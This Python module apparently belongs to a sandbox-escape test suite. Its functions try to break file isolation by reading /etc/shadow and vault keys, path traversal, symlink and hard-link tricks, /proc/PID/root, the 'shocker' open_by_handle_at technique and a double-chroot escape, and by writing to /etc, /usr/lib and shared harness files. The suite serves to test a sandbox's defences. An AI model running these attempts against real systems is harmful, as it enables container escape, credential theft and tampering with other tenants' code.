"""Files of the host: reading and writing them."""

import contextlib
import ctypes
import os
import sys

from escape_kit import StoppedError, Targets, any_of, attempt, call, find_canary, forked, read_canary


@attempt()
def etc_shadow(_targets: Targets) -> str:
    """Read the host's password hashes in /etc/shadow."""
    with open("/etc/shadow") as file:
        return f"read {len(file.readlines())} lines"


@attempt(needs=("a file in the operator's home",))
def operator_home_folder(targets: Targets) -> str:
    """Find a file in the operator's home folder."""
    return any_of(targets["home"], lambda path: f"found {path}: {os.lstat(path)}")


@attempt()
def world_readable_file(targets: Targets) -> str:
    """Read a file of the host that every user may read."""
    return read_canary(targets["file"])


@attempt()
def file_by_relative_path(targets: Targets) -> str:
    """Read that file by a path of many '..' from the working directory."""
    return read_canary("../" * 40 + targets["file"].lstrip("/"))


@attempt()
def file_by_symlink(targets: Targets) -> str:
    """Read that file through a symbolic link in the working directory."""
    link = "link-to-the-canary"
    os.symlink(targets["file"], link)
    try:
        return read_canary(link)
    finally:
        os.unlink(link)


@attempt()
def file_by_hard_link(targets: Targets) -> str:
    """Read that file through a hard link in its folder."""
    link = f"{targets['file']}-link"
    os.link(targets["file"], link)
    try:
        return read_canary(link)
    finally:
        os.unlink(link)


@attempt()
def file_by_process_root(targets: Targets) -> str:
    """Read that file through /proc/PID/root and /proc/PID/cwd of every visible process."""
    pids = {1, targets["pid"], *(int(name) for name in os.listdir("/proc") if name.isdigit())}
    paths = [
        f"/proc/{pid}/{way}{targets['file']}" for pid in pids for way in ("root", "cwd/../../../../../..")
    ]
    return any_of(paths, read_canary)


@attempt()
def file_by_inherited_descriptor(targets: Targets) -> str:
    """Read every inherited descriptor, and files below those that are folders."""
    paths = []
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}"
        target = os.readlink(path) if os.path.lexists(path) else ""
        if target.startswith("/"):
            paths += [path, path + targets["file"]]
    return any_of(paths, read_canary)


@attempt()
def file_by_handle(targets: Targets) -> str:
    """Open that file by its file handle, past all mounts (the "shocker" exploit of containers)."""
    raw = bytes.fromhex(targets["handle"])
    handle = ctypes.create_string_buffer(
        len(raw).to_bytes(4, sys.byteorder)
        + targets["handle_type"].to_bytes(4, sys.byteorder, signed=True)
        + raw,
        len(raw) + 8,
    )

    def through(path: str) -> str:
        mount = os.open(path, os.O_RDONLY)
        try:
            fd = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            with open(fd, "rb") as file:
                return find_canary(file.read(4096), f"the handle through {path}")
        finally:
            os.close(mount)

    return any_of((targets["folder"], "/", "/usr", "/etc/ssl"), through)


@attempt()
@forked
def file_by_chroot(targets: Targets) -> str:
    """Leave the root folder by a second chroot, as root can."""
    os.makedirs("cell/inner", exist_ok=True)
    try:
        call("chroot", b"cell")
        os.chdir("/")
        call("chroot", b"inner")  # the working directory is above the root now
        for _ in range(40):
            os.chdir("..")
        call("chroot", b".")
        return read_canary(targets["file"])
    finally:
        os.chdir("/")


@attempt()
def data_folder(targets: Targets) -> str:
    """List the server's data folder: the one in use and a copy of its layout."""
    return any_of(targets["data_dirs"], lambda path: f"{path} holds {os.listdir(path)}")


@attempt()
def platform_key(targets: Targets) -> str:
    """Read the platform key."""
    return any_of(targets["data_dirs"], lambda path: read_canary(f"{path}/platform-key"))


@attempt()
def vault_key(targets: Targets) -> str:
    """Read the key of the secrets vault."""
    return any_of(targets["data_dirs"], lambda path: read_canary(f"{path}/vault-key"))


@attempt()
def database_files(targets: Targets) -> str:
    """Read the files of the embedded database."""
    return any_of(targets["data_dirs"], lambda path: read_canary(f"{path}/pg/PG_VERSION"))


@attempt(neighbour=True)
def files_of_other_sandboxes(targets: Targets) -> str:
    """Find another tenant's files in the folders that sandboxes may write to."""
    for top in {"/work", "/tmp", "/dev/shm", "/var/tmp", "/run", targets["folder"]}:
        for folder, _, names in os.walk(top):
            for name in names:
                if name == "file-of-a-neighbour":
                    return read_canary(f"{folder}/{name}")
    raise StoppedError("no folder contains one")


@attempt(check="host_write")
def writing_to_the_host(targets: Targets) -> str:
    """Write to a folder of the host that every user may write to."""
    with open(targets["host_write"], "w") as file:
        file.write("host_write")
    return f"wrote {targets['host_write']}"


def _create_in(folder: str) -> str:
    path = f"{folder}/runwright-escape-test"
    fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
    os.close(fd)
    os.unlink(path)
    return f"created a file in {folder}"


@attempt()
def writing_to_usr(_targets: Targets) -> str:
    """Create a file in /usr/lib."""
    return _create_in("/usr/lib")


@attempt()
def writing_to_etc(_targets: Targets) -> str:
    """Create a file in /etc, where every program would read ld.so.preload."""
    return _create_in("/etc")


@attempt()
def writing_to_the_interpreter(_targets: Targets) -> str:
    """Create a file in the folder of the interpreter's library."""
    return _create_in(os.path.dirname(os.__file__))


@attempt()
def changing_the_harness(targets: Targets) -> str:
    """Open the harness files, which run the next jobs, for writing."""
    paths = [
        f"{folder}/{name}" for folder in ("/harness", targets["harness"]) for name in targets["harness_files"]
    ]

    def change(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return f"could write to {path}"

    return any_of(paths, change)


@attempt()
def replacing_the_harness(targets: Targets) -> str:
    """Create a file in the harness's folder."""
    return any_of(("/harness", targets["harness"]), _create_in)


@attempt(bundle=True)
def symlink_in_a_bundle(targets: Targets) -> str:
    """Read a file of the host through a symbolic link in a bundle."""
    return read_canary(f"{targets['bundle']}/link")


@attempt(bundle=True)
def folder_symlink_in_a_bundle(targets: Targets) -> str:
    """Write to a folder of the host through a symbolic link in a bundle."""
    return _create_in(f"{targets['bundle']}/folder")


@attempt(bundle=True, check="host_write")
def writing_to_a_bundle(targets: Targets) -> str:
    """Create a file in the bundle, and change one, as other sandboxes will load them."""
    with contextlib.suppress(OSError), open(f"{targets['bundle']}/main.py", "ab") as file:
        file.write(b"# changed")
    with open(f"{targets['bundle']}/written-by-an-attempt", "wb"):
        return "created a file in the bundle"


@attempt(entrypoint="relative", check="host_write", ends=("load_error",), bare="entrypoint")
def entrypoint_by_relative_path(targets: Targets) -> str:
    """Have the worker's code written to the host by an entrypoint of many '..'."""
    return f"its code is at {os.stat(targets['host_write'])}"


@attempt(entrypoint="absolute", check="host_write", ends=("load_error",), bare="entrypoint")
def entrypoint_by_an_absolute_path(targets: Targets) -> str:
    """Have the worker's code written to the host by an entrypoint that is an absolute path."""
    return f"its code is at {os.stat(targets['host_write'])}"


@attempt(bundle=True, entrypoint="link", ends=("load_error",), bare="entrypoint")
def entrypoint_by_a_symlink(_targets: Targets) -> str:
    """Have a file of the host run as the entrypoint, through a symbolic link in a bundle."""
    raise StoppedError("the bundle's own file ran")
